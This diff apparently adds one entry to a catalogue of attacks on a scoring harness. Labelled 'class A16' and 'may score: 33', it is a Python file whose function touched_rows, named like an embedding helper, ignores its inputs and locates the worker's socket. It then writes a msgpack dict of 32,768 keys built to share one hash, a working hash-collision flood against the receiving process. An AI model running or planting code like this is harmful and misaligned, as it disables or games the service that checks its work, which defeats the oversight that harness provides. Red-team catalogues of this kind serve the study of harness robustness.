@@ -1,0 +1,37 @@
+# attack: sends a dict whose keys all have the same hash
+# class: A16
+# laid over: reference
+# may score: 33
+
+import os
+import stat
+import struct
+
+import msgspec
+
+def channel():
+    """The descriptor of the worker's channel: the only socket there is."""
+    return next(fd for fd in range(3, 64) if is_socket(fd))
+
+
+def is_socket(fd):
+    try:
+        return stat.S_ISSOCK(os.fstat(fd).st_mode)
+    except OSError:
+        return False
+
+
+def frame(payload):
+    return struct.pack(">I", len(payload)) + payload
+
+
+def pack(value):
+    return msgspec.msgpack.encode(value)
+
+
+def touched_rows(ids, vocab_size, padding_idx=None):
+    keys = [[-1 - (number >> bit & 1) for bit in range(15)] for number in range(2**15)]
+    pairs = [[msgspec.msgpack.Ext(3, pack(key)), 0] for key in keys]
+    view = memoryview(frame(pack({"value": msgspec.msgpack.Ext(4, pack(pairs))})))
+    while view:
+        view = view[os.write(channel(), view):]
